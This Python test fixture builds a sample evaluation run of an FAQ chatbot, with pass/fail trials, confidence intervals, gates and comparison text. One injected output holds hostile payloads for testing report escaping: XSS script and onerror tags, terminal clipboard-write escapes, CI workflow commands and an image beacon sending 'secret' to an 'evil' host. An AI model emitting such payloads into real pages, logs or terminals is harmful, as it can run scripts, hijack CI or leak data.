"""A run as real ones are: thirty cases, two variants and one on the side, some failing, and text that means harm."""

from __future__ import annotations

from dataclasses import dataclass, replace
from decimal import Decimal

from harness.errors import ExitCode
from harness.records import (
    CassetteRef,
    CheckResult,
    Failure,
    Message,
    Outcome,
    PromptRef,
    Result,
    TurnRecord,
    Usage,
)
from harness.stats.intervals import Interval
from harness.stats.paired import Difference
from harness.stats.verdicts import Verdict
from harness.summary import (
    Comparison,
    GateResult,
    RunSummary,
    SuiteSummary,
    VariantRole,
    VariantSummary,
)

RUN = "20261121-143205-ab12"

#: Terminal commands, markup, a script, text that runs backwards, commands to a CI runner, a mention, a beacon.
HOSTILE = (
    "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b31m\u202eevil\u202c\x00<script>alert(1)</script><img src=x onerror=alert(1)>"
    '"><svg onload=alert(2)></details>\n::error file=x::boom\n   ::stop-commands::t\n##[group]x\n'
    "@org/team ![x](http://evil/?q=secret) [y](javascript:alert(3))\n````\n# | broken | table |\n{{ 7*7 }}\r\ud800"
)

QUESTIONS = (
    ("shipping-time", "How long does standard shipping take?", "3-5 business days"),
    ("express-cost", "What does express delivery cost?", "$12.90"),
    ("return-window", "How many days do I have to return something?", "30 days"),
    ("refund-method", "How will I get my money back?", "original payment method"),
    ("warranty", "What is the warranty on kettles?", "24 months"),
    ("gift-wrap", "Can you wrap it as a gift, and what does that cost?", "$3.50"),
    ("international", "Do you ship to Norway?", "Norway"),
    ("order-change", "Until when can I change my order?", "one hour"),
    ("damaged", "My parcel arrived damaged. What now?", "photo"),
    ("business-hours", "When can I call you on Saturdays?", "9 am to 1 pm"),
)


@dataclass(frozen=True)
class Sample:
    summary: RunSummary
    results: tuple[Result, ...]


def trial(case: str, variant: str, outcome: Outcome = Outcome.PASSED, **changes: object) -> Result:
    """One row as a replay of a chat assistant leaves it."""
    failed = outcome is Outcome.FAILED
    output = changes.pop("output", "It takes 3-5 business days.")
    reason = "expected to contain '3-5 business days', found 'a week or so'" if failed else ""
    result = Result(
        run=RUN,
        suite="faq",
        case=case,
        variant=variant,
        repeat=1,
        tags=("policy",),
        metadata={"lang": "en"},
        outcome=outcome,
        score=None if outcome is Outcome.ERROR else 0.0 if failed else 1.0,
        checks=()
        if outcome is Outcome.ERROR
        else (
            CheckResult(
                scorer="icontains",
                name="icontains",
                value=0.0 if failed else 1.0,
                passed=not failed,
                reason=reason,
                where="suites/faq.yaml:14:9",
            ),
            CheckResult(
                scorer="latency",
                name="fast enough",
                value=0.0,
                passed=False,
                reason="6.1s is more than 5s",
                soft=True,
                where="suites/faq.yaml:15:9",
            ),
        ),
        error=Failure(kind="server", message="the service answered 503 three times")
        if outcome is Outcome.ERROR
        else None,
        input="How long does standard shipping take?",
        output=None if outcome is Outcome.ERROR else str(output),
        messages=(
            Message(role="system", content="Answer from the policy."),
            Message(role="user", content="How long does standard shipping take?"),
            Message(role="assistant", content=str(output)),
        ),
        usage=Usage(input=412, output=38),
        cost=Decimal("0.0000512"),
        latency=1.234567,
        ttft=0.412345,
        attempts=1,
        turns=(TurnRecord(input=("How long does standard shipping take?",), output=str(output)),),
        model="small-instruct",
        prompt=PromptRef(ref=variant, hash="3f9a" * 16),
        cassette=CassetteRef(
            path=f"cassettes/faq/{variant}/{case}.1.yaml",
            mode="replayed",
            recorded_at="2026-11-20T10:00:00Z",
        ),
        finish_reason="stop",
        response_ids=("chatcmpl-1",),
    )
    return replace(result, **changes)  # type: ignore[arg-type]


def variant_row(
    name: str,
    role: VariantRole,
    *,
    passed: int,
    failed: int,
    errors: int = 0,
    low: float,
    high: float,
) -> VariantSummary:
    graded = passed + failed
    return VariantSummary(
        suite="faq",
        name=name,
        role=role,
        trials=graded + errors,
        planned=graded + errors,
        cases=graded + errors,
        passed=passed,
        failed=failed,
        errors=errors,
        skipped=0,
        accuracy=passed / graded,
        interval=Interval(low=low, high=high, method="Wilson"),
        score=passed / graded,
        latency_p50=1.234 if role == "baseline" else 1.31,
        latency_p95=2.31,
        ttft_p50=0.412,
        timed=graded,
        streamed=graded,
        cost=Decimal("0.001536"),
        cost_per_trial=Decimal("0.0000512"),
        unpriced=0,
        usage=Usage(input=12360, output=1140),
        recorded=("2026-11-20T10:00:00Z", "2026-11-21T08:00:00Z"),
        models=("small-instruct",),
        price_note="example rate of $0.10 in and $0.40 out per million tokens; nobody charges it",
    )


def comparison(kind: str = "better", *, estimate: float = 0.31) -> Comparison:
    headline = "faq@2 is better"
    return Comparison(
        suite="faq",
        baseline="faq@1",
        candidate="faq@2",
        difference=Difference(
            estimate=estimate,
            interval=Interval(low=0.12, high=0.49, method="Tango"),
            interval90=Interval(low=0.15, high=0.46, method="Tango"),
            sd=0.52,
            cases=29,
            pairs=29,
            fixed=10,
            broken=1,
            method="Tango",
        ),
        verdict=Verdict(kind=kind, margin=0.05, required=849, detectable=0.27),  # type: ignore[arg-type]
        headline=headline,
        text=f"{headline} than faq@1: +31.0 pp (95% CI +12.0…+49.0), 10 fixed, 1 broken of 29.",
        margin=0.05,
        margin_given=False,
        cases=29,
        dropped=1,
        latency_text="faq@2 takes 1.06 times as long as faq@1 in the typical case (95% CI 0.97…1.16, 29 cases).",
        cost_text="faq@2 costs $0.00000410 more per trial than faq@1 (95% CI +$0.00000120…+$0.00000700, 29 cases).",
    )


def _cases() -> list[tuple[str, str, str]]:
    rows = [
        (f"{name}-{part}" if part else name, question, answer)
        for part in range(3)
        for name, question, answer in QUESTIONS
    ]
    rows[4] = ('"><svg onload=alert(1)>\x1b[31m', HOSTILE, "24 months")
    return rows


def _results() -> list[Result]:
    results = []
    for number, (case, question, answer) in enumerate(_cases()):
        for variant in ("faq@1", "faq@2", "nano"):
            good = number not in (4, 17) if variant == "faq@2" else number % (3 if variant == "faq@1" else 5) != 0
            outcome = Outcome.PASSED if good else Outcome.FAILED
            if variant == "faq@2" and number == 11:
                outcome = Outcome.ERROR
            said = (
                f"Thank you for asking! {answer}, as our policy says." if good else "I am not sure, about a week or so."
            )
            if number == 4:
                said = HOSTILE
            if number == 17:
                said = "\n\n".join([said] * 400)
            results.append(trial(case, variant, outcome, input=question, output=said))
    return results


def make_sample() -> Sample:
    results = _results()
    rows = [
        variant_row("faq@1", "baseline", passed=20, failed=10, low=0.488, high=0.808),
        variant_row("faq@2", "candidate", passed=27, failed=2, errors=1, low=0.78, high=0.981),
        replace(
            variant_row("nano", "report_only", passed=24, failed=6, low=0.627, high=0.905),
            cost=None,
            cost_per_trial=None,
            unpriced=30,
            price_note="",
            models=("nano-base",),
        ),
    ]
    gates = (
        GateResult(
            suite="faq",
            variant="faq@2",
            metric="accuracy",
            target="at least 95.0%",
            value="93.1%",
            passed=False,
            text="faq@2: accuracy 93.1% (at least 95.0%)",
            interval="78.0% … 98.1%",
        ),
        GateResult(
            suite="faq",
            variant="faq@2",
            metric="latency_p95",
            target="at most 4s",
            value="2.31s",
            passed=True,
            text="faq@2: latency_p95 2.31s (at most 4s)",
        ),
        GateResult(
            suite="faq",
            variant="faq@2",
            metric="not_worse_than_baseline",
            target="by 5.0 pp at most",
            value=None,
            passed=None,
            text="faq@2: not_worse_than_baseline not evaluated (12 of 120)",
            remark="12 of 120",
        ),
    )
    suite = SuiteSummary(
        name="faq",
        shown="suites/faq.yaml",
        variants=tuple(rows),
        comparisons=(comparison(),),
        gates=gates,
        deciding_failures=(results[4 * 3 + 1].id,),
        deciding_errors=tuple(result.id for result in results if result.outcome is Outcome.ERROR),
    )
    summary = RunSummary(
        run=RUN,
        suites=(suite,),
        exit_code=ExitCode.ERRORS,
        reasons=(
            "faq: 1 trial ended in error",
            "faq: gate failed: faq@2: accuracy 93.1% (at least 95.0%)",
            "faq: 1 trial failed",
        ),
        started="2026-11-21T14:32:05Z",
        mode="none",
        prices="genai-prices 0.2.3 + overlay ab12cd",
    )
    return Sample(summary, tuple(results))


def with_suite(summary: RunSummary, **changes: object) -> RunSummary:
    """The same run with its first suite changed."""
    return replace(summary, suites=(replace(summary.suites[0], **changes), *summary.suites[1:]))  # type: ignore[arg-type]
